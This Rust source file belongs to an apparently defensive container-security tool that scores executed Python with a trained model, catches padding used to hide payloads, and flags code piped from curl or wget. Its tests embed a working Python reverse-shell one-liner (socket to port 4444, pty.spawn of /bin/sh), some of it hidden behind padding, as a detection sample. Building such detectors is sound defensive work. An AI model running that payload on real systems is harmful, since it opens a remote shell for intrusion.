//! `Execution: Malicious Python executed`: the code a Python interpreter runs in a container —
//! the script named in argv (read inside the container's root, never outside it), the code of
//! `-c`, or a note that it came from stdin — judged by the trained model in `python-model`.
//!
//! The model reads [`MAX_SCAN_BYTES`] at a time, so a script is judged in overlapping windows
//! over its first [`SCRIPT_SCAN_LIMIT`] bytes, plus its last window when it is longer: a payload
//! after padding is still seen, and what was neither read nor scored is reported
//! (`Python_Script_Unscanned_Bytes`). Before scoring, what the interpreter ignores and an
//! attacker uses to dilute or hide code is taken out: NUL bytes, and long runs of blanks or
//! empty lines become one. Code that calls, decorates and imports nothing cannot act
//! and is not judged.

use std::{
    borrow::Cow,
    collections::HashMap,
    io::{Read, Seek, SeekFrom},
    os::unix::fs::MetadataExt,
    sync::Arc,
};

use python_model::{Model, MAX_SCAN_BYTES};
use sha2::{Digest, Sha256};

use super::{
    rules::Severity,
    spec::{no_incident_properties, put, Mitre, Props, Render, Scope, Spec},
    tools::{KnownBinary, ToolKind},
    Ctx, Detection, DetectionId, Evidence,
};

/// The definition. The engine runs the judge itself: it needs the model and reads scripts off
/// the event loop.
pub static SPEC: Spec = Spec {
    category: "Execution: Malicious Python executed",
    module: "MALICIOUS_PYTHON_EXECUTED",
    severity: Severity::Critical,
    mitre: Mitre {
        tactic: "EXECUTION",
        techniques: &["PYTHON", "COMMAND_AND_SCRIPTING_INTERPRETER"],
        additional_tactics: &[],
        additional_techniques: &["INGRESS_TOOL_TRANSFER"],
    },
    description: "Python code judged malicious by shrike's model was executed.",
    next_steps: "Read the script contents in the finding; find how it got into the container.",
    scope: Scope::ContainerOnly,
    detector: None,
    render_incident: no_incident_properties,
};

/// The model's verdict, or what fed the interpreter when the code could not be read.
#[derive(Clone, Debug, PartialEq)]
pub struct PythonEvidence {
    /// `script`, `argument` or `stdin`.
    pub source: &'static str,
    /// The model's score (none for code piped from a downloader).
    pub score: Option<f32>,
    /// The threshold the score was judged against.
    pub threshold: Option<f32>,
    /// The model's version.
    pub model_version: String,
    /// Bytes of the script neither read nor scored.
    pub unscanned: u64,
    /// The command piping code into the interpreter.
    pub stdin_writer: Option<String>,
    /// The features behind the score, largest part first.
    pub contributions: Vec<Contribution>,
}

impl Render for PythonEvidence {
    fn render(&self, props: &mut Props) {
        put(props, "Python_Code_Source", self.source);
        if let Some(w) = &self.stdin_writer {
            put(props, "Python_Stdin_Writer", w.as_str());
        }
        if let Some(s) = self.score {
            put(props, "Python_Model_Score", f64::from(s));
        }
        if let Some(t) = self.threshold {
            put(props, "Python_Model_Threshold", f64::from(t));
        }
        put(props, "Python_Model_Version", self.model_version.as_str());
        if self.unscanned > 0 {
            put(props, "Python_Script_Unscanned_Bytes", self.unscanned);
        }
        if !self.contributions.is_empty() {
            let list = self
                .contributions
                .iter()
                .map(|c| serde_json::json!({ "feature": c.feature, "contribution": (f64::from(c.contribution) * 1000.0).round() / 1000.0 }))
                .collect::<Vec<_>>();
            put(props, "Python_Model_Evidence", list);
        }
    }
}
use crate::{
    event::{EventBody, RawStr},
    process::rootfs,
};

/// Bytes of a script read and judged from its start; beyond, only its last window is.
pub const SCRIPT_SCAN_LIMIT: usize = 2 * 1024 * 1024;

/// Consecutive windows overlap by this much, so code cut by one boundary is whole in the next.
const WINDOW_OVERLAP: usize = 16 * 1024;

/// Runs of blanks (or of empty lines) longer than this become one.
const MAX_RUN: usize = 16;

/// The model shipped with shrike.
pub const EMBEDDED_MODEL: &[u8] = include_bytes!("../../../rules/python-model.bin");

/// Bytes of a script quoted in a finding.
pub const CONTENTS_PREFIX: usize = 4096;

/// Where the code came from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CodeSource {
    /// A script file (path as the process named it, resolved inside its root; bytes, as the
    /// kernel gave them).
    Script(RawStr),
    /// `python -c CODE`.
    Argument,
    /// Standard input (`curl ... | python3`).
    Stdin,
    /// `python -m module`.
    Module(String),
}

/// What a finding says about a script.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct ScriptInfo {
    /// Path as the process saw it.
    pub path: String,
    /// File size.
    pub size: u64,
    /// Hex SHA-256 of the first `hashed_size` bytes.
    pub sha256: String,
    /// Bytes hashed.
    pub hashed_size: u64,
    /// Only a prefix was read.
    pub partially_hashed: bool,
    /// The first bytes, as text.
    pub contents: String,
    /// Bytes of the script neither read nor judged (beyond [`SCRIPT_SCAN_LIMIT`], before its
    /// last window).
    pub unscanned: u64,
}

/// What the interpreter would run, without what only dilutes or hides it: NUL bytes (CPython
/// 3.11 runs a file of NULs as an empty program), and runs of more than [`MAX_RUN`] blanks or
/// empty lines (code pushed off-screen, or `pass` padded to look like something), each made one.
pub fn normalise(code: &[u8]) -> Cow<'_, [u8]> {
    let blank = |b: u8| matches!(b, b' ' | b'\t' | b'\r' | b'\x0c');
    let needs = code.contains(&0)
        || code.windows(MAX_RUN + 1).any(|w| w.iter().all(|&b| blank(b)) || w.iter().all(|&b| b == b'\n'));
    if !needs {
        return Cow::Borrowed(code);
    }
    let mut out = Vec::with_capacity(code.len());
    let (mut blanks, mut newlines) = (0usize, 0usize);
    for &b in code {
        match b {
            0 => continue,
            b'\n' => {
                blanks = 0;
                newlines += 1;
                if newlines > MAX_RUN {
                    continue;
                }
            }
            _ if blank(b) => {
                blanks += 1;
                if blanks > MAX_RUN {
                    continue;
                }
            }
            _ => {
                blanks = 0;
                newlines = 0;
            }
        }
        out.push(b);
    }
    Cow::Owned(out)
}

/// True when the code cannot do anything: it calls nothing (no `(`), applies no decorator (a
/// decorator is a call without parentheses) and imports nothing — `pass`, blanks, NULs, a bare
/// assignment. The model, which learnt from whole files, has nothing to judge in such code and
/// is not asked.
fn is_inert(code: &[u8]) -> bool {
    !code.iter().any(|&b| b == b'(' || b == b'@') && !code.windows(6).any(|w| w == b"import")
}

/// The highest score of the windows of `code` (already normalised): [`MAX_SCAN_BYTES`] each,
/// overlapping by [`WINDOW_OVERLAP`], each after the first starting at a line start when one is
/// near. Each window is judged on its own content: the model's "truncated" feature (a file
/// longer than it reads), which alone would flag any long file, never fires, since the whole
/// content is read.
pub fn score_windows(model: &Model, code: &[u8]) -> f32 {
    best_window(model, code).0
}

/// [`score_windows`], with the window that scored highest.
fn best_window(model: &Model, code: &[u8]) -> (f32, std::ops::Range<usize>) {
    let window = |from: usize| from..code.len().min(from + MAX_SCAN_BYTES);
    let mut best = (model.score(&code[window(0)]), window(0));
    let mut start = MAX_SCAN_BYTES - WINDOW_OVERLAP;
    while code.len() > MAX_SCAN_BYTES && start + WINDOW_OVERLAP < code.len() {
        let line = code[start..code.len().min(start + 4096)].iter().position(|&b| b == b'\n').map_or(start, |i| start + i + 1);
        let w = window(line.min(code.len()));
        let s = model.score(&code[w.clone()]);
        if s > best.0 {
            best = (s, w);
        }
        start += MAX_SCAN_BYTES - WINDOW_OVERLAP;
    }
    best
}

/// Features listed as the evidence of a verdict.
pub const EVIDENCE_TOP: usize = 8;

/// One feature's part in a score.
#[derive(Clone, Debug, PartialEq, serde::Serialize)]
pub struct Contribution {
    /// What the feature is (`a | b` when two share a hash bucket).
    pub feature: String,
    /// Its weight times its value: what it adds to the logit (negative: towards benign).
    pub contribution: f32,
}

/// The `top` features behind the score of `code`, largest part first.
pub fn contributions(model: &Model, code: &[u8], top: usize) -> Vec<Contribution> {
    model.explain(code, top).into_iter().map(|(feature, contribution)| Contribution { feature, contribution }).collect()
}

/// Code (already normalised) judged: its score and, for a malicious verdict, the `top` features
/// behind the score of its highest window (explaining costs more than scoring, and benign
/// code needs no evidence). Inert code scores 0 with no evidence.
pub fn judge_code(model: &Model, code: &[u8], top: usize) -> (f32, Vec<Contribution>) {
    if is_inert(code) {
        return (0.0, Vec::new());
    }
    let (score, w) = best_window(model, code);
    let evidence = if top > 0 && model.is_malicious(score) { contributions(model, &code[w], top) } else { Vec::new() };
    (score, evidence)
}

/// A script file read and judged.
#[derive(Clone, Debug, PartialEq)]
pub struct JudgedScript {
    /// The model's score: the highest of its windows.
    pub score: f32,
    /// File size.
    pub size: u64,
    /// Hex SHA-256 of the bytes read (the first [`SCRIPT_SCAN_LIMIT`]).
    pub sha256: String,
    /// Bytes read from the start.
    pub read: u64,
    /// Bytes neither read nor judged (beyond [`SCRIPT_SCAN_LIMIT`], before the last window).
    pub unscanned: u64,
    /// The first [`CONTENTS_PREFIX`] bytes, as text.
    pub contents: String,
    /// The features behind the score (empty unless asked for).
    pub evidence: Vec<Contribution>,
}

/// Read and judge a script: its first [`SCRIPT_SCAN_LIMIT`] bytes in windows and, when it is
/// longer, its last window, where appended code would be. The evidence (`top` features) is
/// worked out for a malicious verdict, and for any verdict with `always_explain`.
pub fn judge_file(model: &Model, file: &mut std::fs::File, top: usize, always_explain: bool) -> std::io::Result<JudgedScript> {
    let size = file.metadata()?.size();
    let mut buf = Vec::with_capacity((size as usize).min(SCRIPT_SCAN_LIMIT));
    (&mut *file).take(SCRIPT_SCAN_LIMIT as u64).read_to_end(&mut buf)?;
    let sha256 = Sha256::digest(&buf).iter().map(|b| format!("{b:02x}")).collect();
    let code = normalise(&buf);
    // The window that scored highest: a range of `code`, or the tail.
    let (mut score, mut best) = if is_inert(&code) { (0.0, None) } else { let (s, w) = best_window(model, &code); (s, Some(w)) };
    let mut tail = None;
    let mut unscanned = 0;
    if size > buf.len() as u64 {
        let tail_from = size.saturating_sub(MAX_SCAN_BYTES as u64).max(buf.len() as u64);
        unscanned = tail_from - buf.len() as u64;
        let mut bytes = Vec::with_capacity(MAX_SCAN_BYTES);
        if file.seek(SeekFrom::Start(tail_from)).is_ok() && (&mut *file).take(MAX_SCAN_BYTES as u64).read_to_end(&mut bytes).is_ok() {
            let bytes = normalise(&bytes).into_owned();
            if !is_inert(&bytes) {
                let s = model.score(&bytes);
                if s > score {
                    (score, best) = (s, None);
                    tail = Some(bytes);
                }
            }
        } else {
            unscanned = size - buf.len() as u64;
        }
    }
    let explain = top > 0 && (always_explain || model.is_malicious(score));
    let evidence = match (&tail, best) {
        _ if !explain => Vec::new(),
        (Some(t), _) => contributions(model, t, top),
        (None, Some(w)) => contributions(model, &code[w], top),
        (None, None) => Vec::new(),
    };
    Ok(JudgedScript {
        score,
        size,
        sha256,
        read: buf.len() as u64,
        unscanned,
        contents: String::from_utf8_lossy(&buf[..buf.len().min(CONTENTS_PREFIX)]).into_owned(),
        evidence,
    })
}

/// The interpreter's own options that take a value (CPython).
const VALUE_OPTIONS: &[u8] = b"cmWXQ";

/// Why the model could not be loaded.
#[derive(Debug, thiserror::Error)]
#[error("python model {path}: {source}")]
pub struct ModelLoadError {
    /// File (or `embedded`).
    pub path: String,
    /// Cause.
    #[source]
    pub source: python_model::ModelError,
}

/// Load the model the rules name (the embedded one by default). With `on_model_error =
/// "disable"` a failure only disables the detection (None, with a warning).
pub fn load_model(rules: &super::rules::Rules) -> Result<Option<Arc<Model>>, ModelLoadError> {
    if !rules.detection(DetectionId::MaliciousPython).enabled {
        return Ok(None);
    }
    let file = &rules.python.model_file;
    let loaded = if file.is_empty() {
        Model::from_bytes(EMBEDDED_MODEL).map_err(|source| ModelLoadError { path: "embedded".into(), source })
    } else {
        Model::load(std::path::Path::new(file)).map_err(|source| ModelLoadError { path: file.clone(), source })
    };
    match loaded {
        Ok(m) => {
            tracing::info!(version = m.version(), "python model loaded");
            Ok(Some(Arc::new(m)))
        }
        Err(e) if rules.python.on_model_error == super::rules::OnModelError::Disable => {
            tracing::warn!(error = %e, "malicious-Python detection disabled: the model cannot be loaded");
            Ok(None)
        }
        Err(e) => Err(e),
    }
}

/// What a python command line runs.
pub fn code_source(args: &[crate::event::RawStr]) -> (Option<CodeSource>, Option<Vec<u8>>) {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_bytes();
        if a == b"-" {
            return (Some(CodeSource::Stdin), None);
        }
        if a == b"--" {
            return (args.get(i + 1).map(|s| CodeSource::Script(s.clone())), None);
        }
        if a.len() > 1 && a[0] == b'-' && a[1] != b'-' {
            for (j, &c) in a.iter().enumerate().skip(1) {
                if VALUE_OPTIONS.contains(&c) {
                    let value = if j + 1 < a.len() { Some(a[j + 1..].to_vec()) } else { args.get(i + 1).map(|s| s.as_bytes().to_vec()) };
                    let consumed_next = j + 1 >= a.len();
                    match c {
                        b'c' => return (Some(CodeSource::Argument), value),
                        b'm' => return (value.map(|v| CodeSource::Module(String::from_utf8_lossy(&v).into_owned())), None),
                        _ => {}
                    }
                    if consumed_next {
                        i += 1;
                    }
                    break;
                }
            }
            i += 1;
            continue;
        }
        if a.starts_with(b"--") {
            i += 1; // --version, --help, --check-hash-based-pycs VALUE (rare): treat as flags
            continue;
        }
        return (Some(CodeSource::Script(args[i].clone())), None);
    }
    (Some(CodeSource::Stdin), None)
}

fn is_python(name: &[u8]) -> bool {
    name.starts_with(b"python") || name.starts_with(b"pypy")
}

/// Reads and scores scripts, caching by file identity so a worker pool re-running one script is
/// scored once.
struct ScriptReader {
    model: Arc<Model>,
    cache: HashMap<(u64, u64, u64, i64), (f32, ScriptInfo, Vec<Contribution>)>,
}

/// A script to read and judge off the event loop, with the detection it becomes if malicious
/// (made, with its process snapshots, when the exec was handled).
pub struct ScriptJob {
    /// The detection, complete but for the verdict's evidence.
    pub detection: Detection,
    roots: Vec<u32>,
    root: Option<std::os::fd::OwnedFd>,
    path: RawStr,
    /// The code is the regular file this process has as standard input.
    stdin_of: Option<crate::event::ProcessKey>,
}

/// Scripts waiting for the reader at most; past it a script is not judged, counted and logged.
const JOBS_MAX: usize = 1024;

/// Judges Python code. Code given on the command line is judged at once; a script is read and
/// judged on a thread of its own, so a slow file system (NFS, a disk under load) or a large
/// script never holds up the event loop, and its finding comes out when the verdict is in.
pub struct PythonJudge {
    model: Arc<Model>,
    reader: Option<ScriptReader>,
    jobs: Option<std::sync::mpsc::SyncSender<ScriptJob>>,
    verdicts: Option<std::sync::mpsc::Receiver<(Detection, bool)>>,
    pending: usize,
    dropped: u64,
    /// The reader thread, joined when the judge is dropped.
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Drop for PythonJudge {
    /// Close the job queue and wait for the reader to finish the script in hand (reads are
    /// bounded in bytes and time), so no thread outlives its judge.
    fn drop(&mut self) {
        self.jobs.take();
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl PythonJudge {
    /// A judge with this model; scripts are read on a thread of its own.
    pub fn new(model: Arc<Model>) -> Self {
        let (jobs, job_rx) = std::sync::mpsc::sync_channel::<ScriptJob>(JOBS_MAX);
        let (verdict_tx, verdicts) = std::sync::mpsc::channel();
        let mut reader = ScriptReader { model: model.clone(), cache: HashMap::new() };
        let spawned = std::thread::Builder::new().name("shrike-scripts".into()).spawn(move || {
            for job in job_rx {
                let verdict = reader.judge_script(job);
                if verdict_tx.send(verdict).is_err() {
                    return;
                }
            }
        });
        match spawned {
            Ok(thread) => Self {
                model,
                reader: None,
                jobs: Some(jobs),
                verdicts: Some(verdicts),
                pending: 0,
                dropped: 0,
                thread: Some(thread),
            },
            Err(e) => {
                tracing::warn!(error = %e, "no thread for reading scripts: they are read on the event loop");
                let reader = ScriptReader { model: model.clone(), cache: HashMap::new() };
                Self { model, reader: Some(reader), jobs: None, verdicts: None, pending: 0, dropped: 0, thread: None }
            }
        }
    }

    /// Hand a script to the reader (the detection already carries its process snapshots).
    /// Returns the detection at once when there is no reader thread and it is malicious.
    pub fn submit(&mut self, job: ScriptJob) -> Option<Detection> {
        if let Some(reader) = self.reader.as_mut() {
            let (d, malicious) = reader.judge_script(job);
            return malicious.then_some(d);
        }
        let jobs = self.jobs.as_ref()?;
        match jobs.try_send(job) {
            Ok(()) => self.pending += 1,
            Err(_) => {
                self.dropped += 1;
                if self.dropped.is_power_of_two() {
                    tracing::warn!(dropped = self.dropped, waiting = self.pending, "scripts not judged: the script reader is behind");
                }
            }
        }
        None
    }

    /// Verdicts in since the last call: the malicious scripts' detections. With `wait`, waits
    /// up to that long for every script handed out to be judged (at shutdown).
    pub fn verdicts(&mut self, wait: Option<std::time::Duration>) -> Vec<Detection> {
        let mut out = Vec::new();
        let Some(rx) = self.verdicts.as_ref() else { return out };
        let deadline = wait.map(|w| std::time::Instant::now() + w);
        while self.pending > 0 {
            let next = match deadline {
                None => rx.try_recv().ok(),
                Some(d) => rx.recv_timeout(d.saturating_duration_since(std::time::Instant::now())).ok(),
            };
            let Some(v) = next else { break };
            self.pending -= 1;
            if let (d, true) = v {
                out.push(d);
            }
        }
        out
    }

    /// Scripts handed out and not judged yet.
    pub fn pending(&self) -> usize {
        self.pending
    }
}

impl ScriptReader {
    /// The job's detection, with the verdict's evidence when the script is malicious (true).
    fn judge_script(&mut self, job: ScriptJob) -> (Detection, bool) {
        let mut d = job.detection;
        let Some((score, info, contributions)) = self.read_script(&job.roots, job.root.as_ref(), job.path.as_bytes(), job.stdin_of) else { return (d, false) };
        let malicious = self.model.is_malicious(score);
        if malicious {
            d.summary = format!("python code judged malicious (score {score:.3})");
            let source = if job.stdin_of.is_some() { "stdin" } else { "script" };
            evidence(&mut d, &self.model, source, score, contributions, Some(info));
        }
        (d, malicious)
    }

    fn read_script(&mut self, root_pid: &[u32], root: Option<&std::os::fd::OwnedFd>, path: &[u8], stdin_of: Option<crate::event::ProcessKey>) -> Option<(f32, ScriptInfo, Vec<Contribution>)> {
        // Standard input: the file the process has open. Else the root of the process itself
        // first (a chroot inside the container is its root), the container's pinned root once
        // the processes are gone.
        let mut file = match stdin_of {
            Some(key) => {
                let file = rootfs::open_stdin_of(key.pid).ok()?;
                // Still that process, not another that took its pid since.
                let stat = std::fs::read(format!("/proc/{}/stat", key.pid)).ok()?;
                if crate::process::procfs::parse_stat(&stat)?.start != key.start {
                    return None;
                }
                file
            }
            None => root_pid
                .iter()
                .find_map(|p| rootfs::open_in_root(*p, path).ok())
                .or_else(|| if path.starts_with(b"/") { root.and_then(|r| rootfs::open_at_root(r, path).ok()) } else { None })?,
        };
        let m = file.metadata().ok()?;
        let key = (m.dev(), m.ino(), m.size(), m.mtime());
        if let Some(hit) = self.cache.get(&key) {
            return Some(hit.clone());
        }
        let j = judge_file(&self.model, &mut file, EVIDENCE_TOP, false).ok()?;
        let info = ScriptInfo {
            path: String::from_utf8_lossy(path).into_owned(),
            size: j.size,
            sha256: j.sha256,
            hashed_size: j.read,
            partially_hashed: j.read < j.size,
            contents: j.contents,
            unscanned: j.unscanned,
        };
        if self.cache.len() > 4096 {
            self.cache.clear();
        }
        self.cache.insert(key, (j.score, info.clone(), j.evidence.clone()));
        Some((j.score, info, j.evidence))
    }

}

impl PythonJudge {
    /// Judge the code of a Python exec: code on the command line at once (into `out`), a
    /// script by a [`ScriptJob`] (into `scripts`, for the caller to complete and [`Self::submit`]).
    /// `roots` gives the pids whose root shows the process's files (computed only for a script); `root` a pinned handle on the
    /// container root; `live` false in replays (no file access).
    pub fn judge(
        &mut self,
        ctx: &Ctx<'_>,
        roots: impl FnOnce() -> Vec<u32>,
        root: Option<&std::os::fd::OwnedFd>,
        live: bool,
        out: &mut Vec<Detection>,
        scripts: &mut Vec<ScriptJob>,
    ) {
        if !matches!(ctx.event.body, EventBody::Exec(_)) || ctx.container.is_none() || !ctx.in_scope(DetectionId::MaliciousPython) {
            return;
        }
        if ctx.tool != Some(ToolKind::Interpreter) {
            return;
        }
        let p = ctx.process;
        if !is_python(p.exe.basename()) && ctx.known != Some(KnownBinary::Python) {
            return;
        }
        let args = &p.argv[ctx.args_from.min(p.argv.len())..];
        let (source, inline) = code_source(args);
        let (score, source_name) = match source {
            Some(CodeSource::Argument) => {
                let code = inline.unwrap_or_default();
                let code = normalise(&code);
                if is_inert(&code) {
                    return;
                }
                (judge_code(&self.model, &code, EVIDENCE_TOP), "argument")
            }
            Some(CodeSource::Script(path)) if live => {
                let detection = ctx.detection(DetectionId::MaliciousPython, p.key, String::new());
                let root = root.and_then(|r| r.try_clone().ok());
                scripts.push(ScriptJob { detection, roots: roots(), root, path, stdin_of: None });
                return;
            }
            // Code fed from a file (`python3 < job.py`, `python3 - < job.py`): that file is read
            // through the process's own descriptor, as a script is.
            Some(CodeSource::Stdin) if live && matches!(p.stdio[0], crate::event::Stdio::File { .. }) => {
                let detection = ctx.detection(DetectionId::MaliciousPython, p.key, String::new());
                scripts.push(ScriptJob { detection, roots: Vec::new(), root: None, path: RawStr::from("/dev/stdin"), stdin_of: Some(p.key) });
                return;
            }
            Some(CodeSource::Stdin) => {
                // The code is not readable; a fetcher piping into the interpreter is reported as such.
                let writer = ctx.net.upstream(ctx.table, p).into_iter().find_map(|k| ctx.table.get(k).map(|w| w.argv.iter().map(|a| a.to_string()).collect::<Vec<_>>().join(" ")));
                let Some(writer) = writer.filter(|w| w.starts_with("curl") || w.starts_with("wget") || w.contains("/curl") || w.contains("/wget")) else {
                    return;
                };
                let mut d = ctx.detection(DetectionId::MaliciousPython, p.key, format!("python runs code piped from `{writer}`"));
                d.evidence = Evidence::Python(PythonEvidence {
                    source: "stdin",
                    score: None,
                    threshold: None,
                    model_version: self.model.version().to_string(),
                    unscanned: 0,
                    stdin_writer: Some(writer),
                    contributions: Vec::new(),
                });
                out.push(d);
                return;
            }
            _ => return,
        };
        let (score, contributions) = score;
        if !self.model.is_malicious(score) {
            return;
        }
        let mut d = ctx.detection(DetectionId::MaliciousPython, p.key, format!("python code judged malicious (score {score:.3})"));
        evidence(&mut d, &self.model, source_name, score, contributions, None);
        out.push(d);
    }
}

/// The evidence of a malicious verdict.
fn evidence(d: &mut Detection, model: &Model, source: &'static str, score: f32, contributions: Vec<Contribution>, script: Option<ScriptInfo>) {
    d.evidence = Evidence::Python(PythonEvidence {
        source,
        score: Some(score),
        threshold: Some(model.threshold()),
        model_version: model.version().to_string(),
        unscanned: script.as_ref().map_or(0, |s| s.unscanned),
        stdin_writer: None,
        contributions,
    });
    d.script = script;
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::RawStr;

    fn args(a: &[&str]) -> Vec<RawStr> {
        a.iter().map(|s| RawStr::from(*s)).collect()
    }

    #[test]
    fn python_command_lines() {
        assert_eq!(code_source(&args(&["x.py"])).0, Some(CodeSource::Script("x.py".into())));
        assert_eq!(code_source(&args(&["-u", "-W", "ignore", "/app/run.py", "--flag"])).0, Some(CodeSource::Script("/app/run.py".into())));
        // A path that is not UTF-8 stays the bytes it is.
        let odd = RawStr::from(&b"/tmp/\xffx.py"[..]);
        assert_eq!(code_source(&[odd.clone()]).0, Some(CodeSource::Script(odd)));
        assert_eq!(code_source(&args(&["-c", "print(1)"])), (Some(CodeSource::Argument), Some(b"print(1)".to_vec())));
        assert_eq!(code_source(&args(&["-Bc", "import os"])), (Some(CodeSource::Argument), Some(b"import os".to_vec())));
        assert_eq!(code_source(&args(&["-cimport os"])), (Some(CodeSource::Argument), Some(b"import os".to_vec())));
        assert_eq!(code_source(&args(&["-m", "http.server"])).0, Some(CodeSource::Module("http.server".into())));
        assert_eq!(code_source(&args(&[])).0, Some(CodeSource::Stdin));
        assert_eq!(code_source(&args(&["-"])).0, Some(CodeSource::Stdin));
        assert_eq!(code_source(&args(&["-X", "dev", "s.py"])).0, Some(CodeSource::Script("s.py".into())));
    }

    const REVERSE_SHELL: &[u8] = b"import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")\n";

    #[test]
    fn junk_is_not_judged_and_padding_does_not_count() {
        let m = Model::from_bytes(EMBEDDED_MODEL).unwrap();
        assert!(is_inert(&normalise(&[0u8; 100_000])));
        assert!(is_inert(&normalise(b"   \n\t\n")));
        let padded = [&b"pass"[..], &[b' '; 50_000]].concat();
        let n = normalise(&padded);
        assert_eq!(&n[..], &[&b"pass"[..], &[b' '; MAX_RUN]].concat()[..]);
        assert!(is_inert(&n), "pass + blanks");
        assert!(is_inert(b"x = 1\nif x:\n    y = [i for i in range]\n"));
        // Anything that calls, decorates or imports is judged.
        for code in [&b"print(1)"[..], b"@exec\n@lambda _: 'x'\nclass C: pass", b"import os", b"from os import system"] {
            assert!(!is_inert(code), "{}", String::from_utf8_lossy(code));
        }
        let lines = [&b"print(1)"[..], &[b'\n'; 50_000]].concat();
        assert!(!m.is_malicious(score_windows(&m, &normalise(&lines))), "print + empty lines");
        // Code hidden behind blanks or NULs is judged as the code it is.
        let hidden = [&b"x = 1"[..], &[b' '; 20_000], &[0u8; 5000], b"\n", REVERSE_SHELL].concat();
        assert!(m.is_malicious(score_windows(&m, &normalise(&hidden))));
        // Ordinary code without runs comes back untouched, without a copy.
        assert!(matches!(normalise(b"import os\nprint(os.getcwd())\n"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_payload_after_padding_is_still_seen() {
        let m = Model::from_bytes(EMBEDDED_MODEL).unwrap();
        // 300 KiB of comment lines, then the payload: past the model's window.
        let mut code = Vec::new();
        let mut i = 0;
        while code.len() < 300 * 1024 {
            code.extend_from_slice(format!("# configuration note {i}: values are read from the environment\n").as_bytes());
            i += 1;
        }
        assert!(!m.is_malicious(score_windows(&m, &code)), "the padding alone");
        code.extend_from_slice(REVERSE_SHELL);
        assert!(!m.is_malicious(m.score(&code[..MAX_SCAN_BYTES])), "the first window alone misses it");
        assert!(m.is_malicious(score_windows(&m, &code)), "a later window sees it");
    }

    #[test]
    fn embedded_model_loads_and_judges() {
        let m = Model::from_bytes(EMBEDDED_MODEL).expect("embedded model");
        let rs = b"import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")";
        assert!(m.is_malicious(m.score(rs)));
        assert!(!m.is_malicious(m.score(b"print('hello')\n")));
    }
}
